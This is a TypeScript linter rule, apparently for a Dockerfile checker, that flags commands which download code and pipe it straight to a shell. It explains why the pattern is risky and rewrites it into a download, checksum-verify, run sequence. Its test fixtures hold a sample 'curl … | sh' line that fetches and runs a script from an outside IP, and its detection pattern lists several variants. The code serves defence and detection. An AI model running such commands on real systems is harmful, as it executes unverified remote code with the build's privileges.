import { categoryRule, fixturePrediction } from './kit';
import type { CommandCandidate } from '../../model/candidates';
import type { OffsetFix } from '../../rule';

/** `curl|wget … URL | sh` → download, verify the checksum (to fill in), then run. */
function downloadVerifyRun(candidate: CommandCandidate): OffsetFix[] | undefined {
  const m = /^(curl|wget)\b[^|]*?(https?:\/\/[^\s|'"]+)[^|]*\|\s*(sudo\s+)?((?:ba|da|z|k)?sh)\s*(.*)$/.exec(candidate.text.trim());
  if (!m || candidate.text.trim() !== candidate.text || candidate.end - candidate.start !== candidate.text.length) return undefined;
  const fetch = m[1] === 'curl' ? `curl -fsSLo /tmp/drydock-download.sh ${m[2]}` : `wget -qO /tmp/drydock-download.sh ${m[2]}`;
  const run = `${m[3] ?? ''}${m[4]} /tmp/drydock-download.sh${m[5] ? ` ${m[5]}` : ''}`;
  const newText = `${fetch} && echo "<sha256 from the publisher>  /tmp/drydock-download.sh" | sha256sum -c - && ${run}`;
  return [{ title: 'Download, verify the checksum, then run', edits: [{ start: candidate.start, end: candidate.end, newText }], isPreferred: true }];
}

const SAMPLE = 'curl -s http://203.0.113.7/x.sh | sh';

/** The model finds a command that looks like downloading code and running it unverified. */
export const remoteCodeExecution = categoryRule(
  { category: 'remote-code-execution', phrase: 'looks like downloading code and running it unverified', attack: 'T1105' },
  {
    id: 'model/remote-code-execution',
    title: 'Suspicious command: remote code execution',
    compliance: ['MITRE ATT&CK T1105 (ingress tool transfer) + T1059', 'CWE-494'],
    fixable: true,
    explanation: {
      what: 'A command the model scores as fetching code and executing it without verification: `curl … | sh`, `wget -O- … | bash`, `python -c "$(curl …)"`, a downloaded file made executable and run, `eval "$(curl …)"` — including variants rules do not spell out.',
      why: "Whatever the server (or anyone on the path, or whoever compromised the server) sends runs with the build's or container's privileges, and the image cannot be rebuilt reproducibly.",
      fix: 'Download to a file, verify a pinned checksum or signature, then run it: `curl -fsSLo /tmp/install.sh URL && echo "<sha256>  /tmp/install.sh" | sha256sum -c - && sh /tmp/install.sh`. The quick fix writes that shape; fill in the checksum from the publisher.',
    },
    fixtures: [
      {
        text: `FROM alpine:3.22\nRUN ${SAMPLE}\n`,
        expect: [SAMPLE.slice(0, 12)],
        predictions: { commands: fixturePrediction(SAMPLE, 'remote-code-execution', '| sh') },
        fixed:
          'FROM alpine:3.22\nRUN curl -fsSLo /tmp/drydock-download.sh http://203.0.113.7/x.sh && echo "<sha256 from the publisher>  /tmp/drydock-download.sh" | sha256sum -c - && sh /tmp/drydock-download.sh\n',
      },
      { text: `FROM alpine:3.22\nRUN ${SAMPLE}\n`, expect: [], predictions: { commands: fixturePrediction(SAMPLE, 'remote-code-execution', '| sh', 0.3) }, note: 'below the threshold' },
      { text: `FROM alpine:3.22\nRUN ${SAMPLE}\n`, expect: [], note: 'no model predictions: rules only' },
    ],
  }, downloadVerifyRun
);
